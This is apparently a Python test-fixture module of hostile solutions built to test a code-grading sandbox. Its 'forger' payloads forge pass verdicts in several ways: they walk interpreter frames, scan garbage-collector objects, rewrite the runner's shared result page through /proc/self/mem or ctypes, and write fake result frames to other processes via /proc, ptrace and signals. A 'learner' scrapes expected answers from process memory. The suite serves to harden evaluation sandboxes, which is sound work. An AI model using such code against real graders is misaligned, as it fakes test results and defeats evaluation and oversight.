"""Solutions and test lines that try to forge verdicts (hostile suite, forgery family).

Every forger is a *wrong* solution (``f`` returns -1) that tries to make the sandbox report
``pass`` for its tests without the canary test of the in-process protocol noticing: it finds
the runner's result channel (a shared page with a nonce and a keyed digest) from inside the
process that loads and runs it, writes ``pass`` for every test but the last one (the canary,
which must fail), signs the page and exits. Four ways to reach the channel:

* ``frames``: walk the interpreter's frames up to the runner's loop and read its locals;
* ``gc``: find the shared page among ``gc.get_objects()``;
* ``procmem``: find the shared mapping in ``/proc/self/maps`` and rewrite it through
  ``/proc/self/mem`` (no Python object of the runner is touched; the process first makes
  itself dumpable again, since a non-dumpable process's ``/proc`` entries belong to root);
* ``ctypes``: the same mapping, written with ``ctypes`` at its address.

``spray`` tries what is left once nothing verdict-related lives in the solution's process:
fake result frames on every open descriptor and on every other process's descriptors, other
processes' memory through ``/proc/<pid>/mem``, ``ptrace``, and signals. Every attack is
wrapped so that a failed attempt is silent: a sandbox that resists it reports the wrong
solution's real verdict, ``fail``.
"""

from __future__ import annotations

#: Shared helpers of the page-based forgers (layout of the shared page: progress index at 0,
#: "loaded" nonce at 16, "done" nonce at 32, digest at 48, verdict bytes from 128 + 200 * 64).
_PAGE = '''
import hashlib, os, struct

def _forge_page(page, n_total, strict):
    """Write pass for every test but the canary (the last), sign, exit."""
    codes_off = 128 + 200 * 64
    nonce = bytes(page[16:32])
    if strict:
        order = [struct.unpack("<I", bytes(page[0:4]))[0]]
    else:
        order = list(range(n_total))
    for j in order:
        page[codes_off + j] = 2 if j == n_total - 1 else 1
    digest = hashlib.blake2b(bytes(page[codes_off + j] for j in order), key=nonce,
                             digest_size=16).digest()
    page[48:64] = digest
    page[32:48] = nonce
    os._exit(0)

def _shared_mapping():
    """(address, size) of the process's anonymous shared mapping (the result page)."""
    with open("/proc/self/maps") as fh:
        for line in fh:
            parts = line.split()
            if len(parts) >= 2 and parts[1].endswith("s") and (
                    len(parts) < 6 or "zero" in parts[5] or "shmem" in parts[5]):
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                return lo, hi - lo
    return None
'''

FRAMES = '''
import sys, hashlib, os

def _forge():
    frame = sys._getframe(1)
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return
    loc = frame.f_locals
    shm, nonce, order, tests = loc["shm"], loc["nonce"], loc["order"], loc["tests"]
    off = loc["codes_off"]
    canary = len(tests) - 1
    for j in order:
        shm[off + j] = 2 if j == canary else 1
    shm[16:32] = nonce
    shm[48:64] = hashlib.blake2b(bytes(shm[off + j] for j in order), key=nonce,
                                 digest_size=16).digest()
    shm[32:48] = nonce
    os._exit(0)

try:
    _forge()
except Exception:
    pass

def f(x):
    return -1
'''

GC = _PAGE + '''
import gc, mmap

def f(x):
    try:
        for obj in gc.get_objects():
            for ref in gc.get_referents(obj):
                if isinstance(ref, mmap.mmap):
                    _forge_page(ref, N_TOTAL, STRICT)
    except Exception:
        pass
    return -1
'''

PROCMEM = _PAGE + '''
class _MemPage:
    """A bytes-like view of another part of this process's memory via /proc/self/mem."""

    def __init__(self, address, size):
        import ctypes

        # a non-dumpable process's /proc entries belong to root: become dumpable first
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
        self.address, self.size = address, size
        self.fh = open("/proc/self/mem", "r+b", buffering=0)

    def __getitem__(self, key):
        if isinstance(key, slice):
            self.fh.seek(self.address + key.start)
            return self.fh.read(key.stop - key.start)
        self.fh.seek(self.address + key)
        return self.fh.read(1)[0]

    def __setitem__(self, key, value):
        start = key.start if isinstance(key, slice) else key
        data = bytes(value) if isinstance(key, slice) else bytes([value])
        self.fh.seek(self.address + start)
        self.fh.write(data)

def f(x):
    try:
        found = _shared_mapping()
        if found:
            _forge_page(_MemPage(*found), N_TOTAL, STRICT)
    except Exception:
        pass
    return -1
'''

CTYPES = _PAGE + '''
import ctypes

def f(x):
    try:
        found = _shared_mapping()
        if found:
            address, size = found
            page = memoryview((ctypes.c_char * size).from_address(address)).cast("B")
            _forge_page(page, N_TOTAL, STRICT)
    except Exception:
        pass
    return -1
'''

SPRAY = '''
import ctypes, json, os, signal, struct

def _frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack("<I", len(data)) + data

def _spray():
    fakes = b"".join(_frame(o) for o in (
        {"ready": True}, {"u": 0, "s": 0, "t": False, "n": [], "f": 0, "c": "AQEBAQ=="},
        {"i": 0, "v": "pass"}, {"v": 1}, {"verdict": "pass"}, [0, 0, "pass"]))
    libc = ctypes.CDLL(None, use_errno=True)
    for fd in range(3, 1024):
        try:
            os.write(fd, fakes)
        except OSError:
            pass
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        pid = int(entry)
        libc.ptrace(16, pid, 0, 0)
        for path in (f"/proc/{pid}/mem", f"/proc/{pid}/environ"):
            try:
                with open(path, "r+b", buffering=0) as fh:
                    fh.read(1)
            except OSError:
                pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as fh:
                    fh.write(fakes)
            except OSError:
                pass
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass

def f(x):
    try:
        _spray()
    except Exception:
        pass
    return -1
'''

#: Reaches for the judge through an object the test passes it (a function or a generator of
#: the test's own process): its globals, code, frames, type; then tries to write a verdict
#: with whatever it found. Returns a wrong value.
THROUGH_CALLBACK = '''
def _reach(g):
    found = []
    attempts = (lambda: g.__globals__, lambda: g.__code__.co_consts,
                lambda: getattr(g, "__globals__"), lambda: g.gi_frame.f_back.f_globals,
                lambda: g.gi_frame.f_globals, lambda: g.__self__, lambda: vars(g),
                lambda: g.__class__.__mro__[-1].__subclasses__(), lambda: g.__reduce__())
    for attempt in attempts:
        try:
            found.append(attempt())
        except BaseException:
            pass
    for obj in found:
        try:
            import os
            os.write(3, repr(obj).encode())
            obj["_EP"].chan.send(["v", 1])
        except BaseException:
            pass

def f(g, x):
    try:
        _reach(g)
        if hasattr(g, "gi_frame"):
            next(g)
    except BaseException:
        pass
    return -1
'''
#: Looks for the expected answer (a string starting "needle-") in its own process: every
#: object the garbage collector tracks, every frame above it, and its raw memory.
LEARNER = '''
import gc, sys

def _strings(obj, out, depth=1):
    if depth > 2:
        return
    if isinstance(obj, str):
        if obj.startswith("needle-"):
            out.append(obj)
    elif isinstance(obj, (list, tuple, set, frozenset)):
        for item in obj:
            _strings(item, out, depth + 1)
    elif isinstance(obj, dict):
        for item in obj.values():
            _strings(item, out, depth + 1)
    elif hasattr(obj, "co_consts"):
        _strings(obj.co_consts, out, depth + 1)

def _raw():
    import ctypes, re
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    out = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            anonymous = len(parts) < 6 or parts[5] in ("[heap]", "[stack]")
            if "r" not in parts[1] or not anonymous or hi - lo > (64 << 20):
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except OSError:
                continue
            out += [m.decode() for m in re.findall(rb"needle-[0-9a-f]{4}(?![0-9a-f])", data)]
    return out

def f(x):
    found = []
    try:
        for obj in gc.get_objects():
            _strings(obj, found, 2)
        frame = sys._getframe(1)
        while frame is not None:
            _strings(frame.f_locals, found, 0)
            _strings(frame.f_code, found, 0)
            frame = frame.f_back
        found += _raw()
    except BaseException:
        pass
    answers = [s for s in found if s != "needle-" and s != "needle-[0-9a-f]{4}"]
    return answers[0] if answers else -1
'''
LEARNER_TESTS = ("assert f(1) == 'needle-7f3a'",)
LEARNER_CHECK = ("def check(candidate):\n    assert candidate(1) == 'needle-7f3a'\n\n"
                 "check(f)",)
CALLBACK_TESTS = ("assert f(lambda v: v, 1) == 1", "assert f((i for i in range(3)), 1) == 1")
CALLBACK_CHECK = ("def check(candidate):\n    assert candidate(lambda v: v, 1) == 1\n\n"
                  "check(f)",)

#: The tests every forger gets: both must fail for the wrong ``f``.
FORGED_TESTS = ("assert f(1) == 1", "assert f(2) == 2")
#: A ground-truth check in the shape of HumanEval's tests: must fail for the wrong ``f``.
FORGED_CHECK = ("def check(candidate):\n    assert candidate(1) == 1\n"
                "    assert candidate(2) == 2\n\ncheck(f)")

#: A test line that forges the verdicts of the tests after it, from inside the test.
HIJACKING_LINE = '''
import sys, hashlib, os
frame = sys._getframe(0)
while frame is not None and "nonce" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:
    loc = frame.f_locals
    shm, nonce, order, tests = loc["shm"], loc["nonce"], loc["order"], loc["tests"]
    off = loc["codes_off"]
    for j in order:
        shm[off + j] = 2 if j == len(tests) - 1 else 1
    shm[48:64] = hashlib.blake2b(bytes(shm[off + j] for j in order), key=nonce,
                                 digest_size=16).digest()
    shm[32:48] = nonce
    os._exit(0)
'''


def forger(kind: str, n_total: int, strict: bool) -> str:
    """The source of forger ``kind`` for a job whose tests plus the canary number
    ``n_total``."""
    source = {"frames": FRAMES, "gc": GC, "procmem": PROCMEM, "ctypes": CTYPES,
              "spray": SPRAY}[kind]
    return f"N_TOTAL = {n_total}\nSTRICT = {strict}\n{source}"


KINDS = ("frames", "gc", "procmem", "ctypes", "spray")
